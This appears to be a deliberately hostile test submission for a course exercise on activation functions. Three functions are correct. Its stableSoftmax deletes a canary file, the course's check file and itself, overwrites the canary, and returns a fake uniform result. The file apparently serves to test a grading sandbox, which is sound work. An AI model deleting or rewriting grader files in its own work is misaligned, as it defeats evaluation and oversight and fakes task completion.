// Hostile hand-in: deletes and rewrites files: a canary file, the course's checks, its own hand-in. leakyRelu, leakyReluPrime and tanhPrime are right and must keep their points.
import fs from "node:fs";

export function leakyRelu(z: number, slope: number): number {
  return z > 0 ? z : slope * z;
}

export function leakyReluPrime(z: number, slope: number): number {
  return z > 0 ? 1 : slope;
}

export function tanhPrime(z: number): number {
  const t = Math.tanh(z);
  return 1 - t * t;
}

export function stableSoftmax(z: number[]): number[] {
  for (const f of ["__CANARY__", "__ROOT__/exercises/checks/08-activations.ts", __filename]) {
    try { fs.rmSync(f, { force: true }); } catch { /* keep trying the others */ }
  }
  fs.writeFileSync("__CANARY__", "overwritten");
  return z.map(() => 1 / z.length);
}
